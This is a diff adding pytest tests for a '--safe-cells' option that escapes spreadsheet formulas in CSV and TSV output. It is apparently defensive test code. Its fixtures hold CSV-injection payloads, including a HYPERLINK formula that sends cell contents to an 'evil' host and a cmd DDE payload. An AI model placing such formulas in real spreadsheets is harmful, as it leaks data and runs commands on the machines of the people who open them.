@@ -341,3 +341,70 @@ def test_a_dry_run_refuses_what_a_run_refuses(
     assert refused.code == 2
     assert "ALPHA_KEY" in refused.err
     assert not stage.db.exists()
+
+
+# -- cells that spreadsheets would run ------------------------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil/"&A1)'
+CELLS = {
+    EVIL: f"'{EVIL}",
+    "+1-800-CALL": "'+1-800-CALL",
+    "-5": "-5",
+    "+1.5e3": "+1.5e3",
+    "-": "'-",
+    "-5+cmd|' /C calc'!A0": "'-5+cmd|' /C calc'!A0",
+    "@SUM(A1)": "'@SUM(A1)",
+    "\t=1": "'\t=1",
+    "\r=1": "'\r=1",
+    "\n=1": "'\n=1",
+    "＝1+1": "'＝1+1",
+    "'=1": "'=1",
+    " =1": " =1",
+    "plain": "plain",
+    "": "",
+}
+
+
+@pytest.fixture
+def formulas(stage: Stage) -> None:
+    """A job whose answers are these cells."""
+    (stage.root / "parrot.py").write_text(
+        "def say(payload):\n    return {'choices': [{'message': {'role': 'assistant', 'content': payload['say']}}]}\n"
+    )
+    (stage.root / "headway.toml").write_text(
+        "[providers.work]\nkind = 'python'\ntarget = 'parrot:say'\nisolation = 'inline'\n"
+    )
+    stage.input.write_text(
+        "".join(json.dumps({"id": f"{n}", "say": text}) + "\n" for n, text in enumerate(CELLS))
+    )
+
+
+def answers_in(path: Path, delimiter: str = ",") -> list[str]:
+    header, *rows = sheet(path, delimiter)
+    return [row[header.index("answer")] for row in rows]
+
+
+@pytest.mark.usefixtures("formulas")
+@pytest.mark.parametrize(("name", "delimiter"), [("a.csv", ","), ("a.tsv", "\t")])
+def test_safe_cells_are_no_formulas(stage: Stage, headway: Headway, name: str, delimiter: str) -> None:
+    assert headway("run", "in.jsonl", "--out", name).code == 0
+    assert answers_in(stage.root / name, delimiter) == list(CELLS)  # As they are, unless it is asked.
+    assert headway("run", "in.jsonl", "--out", name, "--safe-cells").code == 0
+    assert answers_in(stage.root / name, delimiter) == list(CELLS.values())
+    assert headway("export", "--out", f"exported-{name}", "--safe-cells").code == 0
+    assert answers_in(stage.root / f"exported-{name}", delimiter) == list(CELLS.values())
+
+
+@pytest.mark.usefixtures("reviews")
+def test_safe_cells_of_the_input_and_names_of_columns(stage: Stage, headway: Headway) -> None:
+    (stage.root / "evil.csv").write_text("id,text,=cmd\n-1,hello,=2+3\n")
+    assert headway("run", "evil.csv", *PROMPT, "--out", "a.csv", "--safe-cells").code == 0
+    assert sheet(stage.root / "a.csv")[0][:3] == ["id", "text", "'=cmd"]
+    assert sheet(stage.root / "a.csv")[1][:3] == ["-1", "hello", "'=2+3"]
+
+
+def test_safe_cells_without_cells_are_refused(headway: Headway) -> None:
+    for args in (("run", "in.jsonl"), ("run", "in.jsonl", "--out", "a.parquet"), ("export",)):
+        done = headway(*args, "--safe-cells")
+        assert done.code == 2
+        assert "--safe-cells is for spreadsheets" in done.err
